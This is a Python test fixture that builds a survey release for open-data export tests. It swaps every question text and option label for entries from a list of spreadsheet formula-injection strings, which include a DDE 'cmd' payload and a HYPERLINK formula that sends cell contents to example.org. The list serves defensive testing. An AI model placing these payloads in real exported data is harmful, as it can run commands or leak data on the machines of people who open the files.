"""A survey with every kind of question whose texts mean harm, and a release of it, for the tests of open data."""

import json
from dataclasses import replace
from datetime import date
from uuid import UUID

from app.config import PROJECT
from app.domain import population, themes
from app.domain.codebook import Codebook, Theme
from app.domain.cube import Cube
from app.domain.option import Option
from app.domain.profile import LIVE
from app.domain.question import settings
from app.domain.questionnaire import load
from app.domain.release import Edition, release
from app.domain.text import Text
from app.domain.themes import Coded, Method
from app.web.results.data.files import Issue
from tests.web.test_results import invented

TOUR = PROJECT / "examples" / "fragearten" / "fragearten.json"
HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "−1+1",
    "'=1+1",
    "''x",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    '=HYPERLINK("https://example.org?x="&A1,"here")',
    "=cmd|' /C calc'!A0",
    "%0A=1+1",
    "|x",
    "a;=1+1",
    "a;'=1+1",
    "a,=1+1",
    "line\n=1+1",
    'x";=1+1;"',
    "{=1+1}",
    "مرحبا =1+1",
    "=مرحبا",
    "ሰላም",
)


OWN = Theme("parken", Text({"de": "=1+1 Parkplätze", "ar": "@مواقف"}))


def issue(people=300, path=TOUR, number=1, before=None):
    """With the inhabitants beside the questionnaire, where there is a table of them."""
    questionnaire = load(json.loads(path.read_text(encoding="utf-8")))
    table = path.parent / "population.json"
    inhabitants = population.load(json.loads(table.read_text(encoding="utf-8"))) if table.exists() else None
    return replace(issue_of(questionnaire, people, number, before), people=inhabitants)


def issue_of(questionnaire, people, number=1, before=None):
    cube = Cube.build(questionnaire, invented(questionnaire, people, 1), b"k" * 32, LIVE)
    made = themed(questionnaire, release(questionnaire, Edition(number, date(2025, 7, 14), 1, True), cube, before))
    return Issue(questionnaire, made, before, made)


def themed(questionnaire, made):
    """The release with themes of fifty invented texts to each question that is answered with a text."""
    often = ("begegnung", "wohnen", "mobilitaet", OWN.id, "mobilitaet", "other")
    coded = [
        Coded(str(UUID(int=1000 * place + n)), question.id, "", tuple({often[n % 6], often[n % 5]} - {"other"}))
        for place, question in enumerate(each for each in questionnaire.questions if each.open_ended)
        for n in range(50)
    ]
    method = Method(questionnaire, Codebook((OWN,)), LIVE, b"k" * 32)
    return themes.published(made, themes.following(None, coded, method))


def hostile_issue():
    """The tour of all kinds, with one of HOSTILE in the place of every text, in turn."""
    asked = turned(load(json.loads(TOUR.read_text(encoding="utf-8"))))
    fewer = replace(asked, languages=("de", "ar"))
    return issue_of(fewer.replacing(lambda question: replace(question, dimension=False)), 100)


def turned(asked):
    words = iter(HOSTILE * 40)

    def text(one):
        return Text(dict.fromkeys(one.words, next(words))) if one else one

    def evil(value):
        if isinstance(value, Text):
            return text(value)
        if isinstance(value, tuple) and value and isinstance(value[0], Option):
            return tuple(replace(option, label=text(option.label)) for option in value)
        return value

    def question(one):
        return replace(one, **{f.name: evil(getattr(one, f.name)) for f in settings(type(one))})

    return replace(asked, title=text(asked.title)).replacing(question)
